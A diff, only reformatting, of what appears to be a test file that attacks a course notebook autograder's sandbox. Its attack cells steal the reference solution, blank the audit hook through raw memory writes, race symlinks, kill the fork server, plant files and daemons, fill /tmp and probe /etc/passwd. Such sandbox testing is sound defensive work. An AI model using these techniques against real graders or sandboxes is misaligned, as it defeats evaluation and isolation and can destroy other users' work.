@@ -16,7 +16,7 @@ VICTIM_MARK = "VICTIM_SECRET_5521"  # in the honest victim's clip cell: no later
 
 # Module-level code of every attack cell: note() records what an expression gave or raised;
 # spawn() starts a process with _posixsubprocess.fork_exec, which no audit event announces.
-PRELUDE = '''
+PRELUDE = """
 import os, sys, numpy as np
 REPORT, STOLEN = [], None
 def note(what, fn):
@@ -40,18 +40,18 @@ def spawn(code, session=False, wait=True, argv=None):
         out += chunk
     os.close(r)
     return out.decode(errors="replace").strip().replace(chr(10), " ")
-'''
+"""
 
-REPORTING_CLIP = '''
+REPORTING_CLIP = """
 def clip(gradients, maxValue):
     if STOLEN is not None:
         return STOLEN(gradients, maxValue)
     raise RuntimeError("report: " + " ".join(REPORT))
-'''
+"""
 
 SOURCE = DINO.source_notebook
 TRANSLATION = COURSE_ROOT / "source" / "dinosaur_island.zh-CN.yml"  # the other edition's source (no code)
-STEAL_FROM_SOURCE = f'''
+STEAL_FROM_SOURCE = f"""
 def steal(path):
     import json
     global STOLEN
@@ -63,7 +63,7 @@ def steal(path):
     return path
 note("source", lambda: steal({str(SOURCE)!r}))
 note("translation", lambda: len(open({str(TRANSLATION)!r}).read()))
-'''
+"""
 
 
 def attack(body):
@@ -73,23 +73,27 @@ def attack(body):
 
 def probe(port):
     """Code for a spawned interpreter: no audit hook there. Prints what it could reach."""
-    return (f"import os, socket\nr = []\n"
-            f"for p in ({str(SOURCE)!r}, {str(COURSE_ROOT / 'autograder')!r}, '/etc/passwd'):\n"
-            f"    r.append(str(os.path.exists(p)))\n"
-            f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=1); r.append('connected')\n"
-            f"except OSError as e:\n    r.append(type(e).__name__)\n"
-            f"try:\n    open({str(COURSE_ROOT / 'planted.txt')!r}, 'w'); r.append('planted')\n"
-            f"except OSError as e:\n    r.append(type(e).__name__)\n"
-            f"print('spawned', *r)\n")
+    return (
+        f"import os, socket\nr = []\n"
+        f"for p in ({str(SOURCE)!r}, {str(COURSE_ROOT / 'autograder')!r}, '/etc/passwd'):\n"
+        f"    r.append(str(os.path.exists(p)))\n"
+        f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=1); r.append('connected')\n"
+        f"except OSError as e:\n    r.append(type(e).__name__)\n"
+        f"try:\n    open({str(COURSE_ROOT / 'planted.txt')!r}, 'w'); r.append('planted')\n"
+        f"except OSError as e:\n    r.append(type(e).__name__)\n"
+        f"print('spawned', *r)\n"
+    )
 
 
 def daemon(port):
     """Code for a process meant to outlive its job and harm the next ones and the run."""
-    return (f"# {MARK}\nimport os, time, socket\ntime.sleep(2)\n"
-            f"for path in ({str(COURSE_ROOT / 'planted_by_daemon.txt')!r}, '/tmp/planted_by_daemon'):\n"
-            f"    try:\n        open(path, 'w').write('x')\n    except OSError:\n        pass\n"
-            f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=1)\nexcept OSError:\n    pass\n"
-            f"time.sleep(120)\n")
+    return (
+        f"# {MARK}\nimport os, time, socket\ntime.sleep(2)\n"
+        f"for path in ({str(COURSE_ROOT / 'planted_by_daemon.txt')!r}, '/tmp/planted_by_daemon'):\n"
+        f"    try:\n        open(path, 'w').write('x')\n    except OSError:\n        pass\n"
+        f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=1)\nexcept OSError:\n    pass\n"
+        f"time.sleep(120)\n"
+    )
 
 
 SHELL_DAEMON = ["/bin/sh", "-c", f"sleep 120; : {MARK}"]  # a daemon that needs no Python
@@ -110,30 +114,33 @@ def attacks(port):
         "previous_job": attack(PREVIOUS_JOB),
         "zz_uses_stolen_reference": attack(USE_STOLEN),
         # harming others and the next run
-        "plants_files": attack(f'''
+        "plants_files": attack(f"""
 for path in ({course + "/autograder/report.py"!r}, {site + "/planted.pth"!r}, {utils + "/__pycache__/x.pyc"!r},
              {course + "/submitted/planted.ipynb"!r}, "/tmp/planted", "/dev/shm/planted", "/var/tmp/planted"):
     note(path.rsplit("/", 1)[1], lambda: open(path, "w").write("import os"))
 note("symlink", lambda: os.symlink({str(SOURCE)!r}, {course + "/submitted/link.ipynb"!r}))
 note("mkdir", lambda: os.mkdir({course + "/autograder/grading/x"!r}))
-'''),
-        "leaves_daemons": attack(f"for _ in range(20):\n"
-                                 f"    note('daemon', lambda: spawn({daemon(port)!r}, True, False))\n"),
-        "opens_the_gradebook": attack(f'''
+"""),
+        "leaves_daemons": attack(
+            f"for _ in range(20):\n    note('daemon', lambda: spawn({daemon(port)!r}, True, False))\n"
+        ),
+        "opens_the_gradebook": attack(f"""
 import sqlite3
 note("gradebook", lambda: sqlite3.connect({course + "/gradebook.db"!r}).execute("select 1").fetchall())
-'''),
-        "kills_the_fork_server": attack('''
+"""),
+        "kills_the_fork_server": attack("""
 import signal
 note("pidfd_kill", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL))
 note("kill_all", lambda: spawn("import os, signal; os.kill(-1, signal.SIGKILL)"))
-'''),
-        "stops_itself": attack('''
+"""),
+        "stops_itself": attack("""
 import signal
 note("stop_parent", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGSTOP))
-''').replace('    raise RuntimeError("report: "',
-                  '    signal.raise_signal(signal.SIGSTOP)\n    raise RuntimeError("report: "'),
-        "fills_tmp": attack('''
+""").replace(
+            '    raise RuntimeError("report: "',
+            '    signal.raise_signal(signal.SIGSTOP)\n    raise RuntimeError("report: "',
+        ),
+        "fills_tmp": attack("""
 def fill(folder):
     written = 0
     try:
@@ -146,21 +153,21 @@ def fill(folder):
     return f"{written}MB"
 for folder in ("/tmp", "/dev/shm", "."):
     note(folder, lambda: fill(folder))
-'''),
-        "uses_the_network": attack(f'''
+"""),
+        "uses_the_network": attack(f"""
 import socket
 note("connect", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1))
 note("unix", lambda: socket.socket(socket.AF_UNIX).fileno() > 0)
 note("resolve", lambda: socket.getaddrinfo("localhost", 80))
 note("resolve_far", lambda: socket.getaddrinfo("example.com", 80))
-'''),
+"""),
     }
 
 
 # The sets of events the audit hook refuses, emptied in place through raw memory (numpy's
 # __array_interface__ needs no ctypes): a frozenset then looks up nothing. Found through the
 # child's own frames, where the fork server's modules are still referenced.
-POKE_THE_HOOK = '''
+POKE_THE_HOOK = """
 def raw(address, count):
     class Raw:
         pass
@@ -178,9 +185,9 @@ def poke():
         words[5] = id(events) + 64  # table: the small table
     return os.system("true")
 note("poke", poke)
-'''
+"""
 
-RACE = f'''
+RACE = f"""
 import threading
 def race():
     os.symlink("/etc/hostname", "swap")
@@ -203,9 +210,9 @@ def race():
     stop.append(1); thread.join()
     return got
 note("race", race)
-'''
+"""
 
-PREVIOUS_JOB = f'''
+PREVIOUS_JOB = f"""
 def search():
     frame, seen = sys._getframe(), []
     while frame is not None:
@@ -220,20 +227,24 @@ def search():
         frame = frame.f_back
     return any({VICTIM_MARK!r}.encode() in s for s in seen)
 note("found_victim", search)
-'''
+"""
 
 # an optimize that is right and also copies the reference clip (bound in its globals while it runs)
 # wherever a later child might look
-STEALING_OPTIMIZE = solutions()["optimize"].replace("    return loss", '''    import marshal, os
+STEALING_OPTIMIZE = solutions()["optimize"].replace(
+    "    return loss",
+    """    import marshal, os
     for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
         try:
             with open(folder + "/stolen_clip", "wb") as f:
                 f.write(marshal.dumps(clip.__code__))
         except OSError:
             pass
-    return loss''', 1)
+    return loss""",
+    1,
+)
 
-USE_STOLEN = '''
+USE_STOLEN = """
 def use():
     import marshal, types
     global STOLEN
@@ -246,4 +257,4 @@ def use():
         return folder
     return "none"
 note("stolen", use)
-'''
+"""
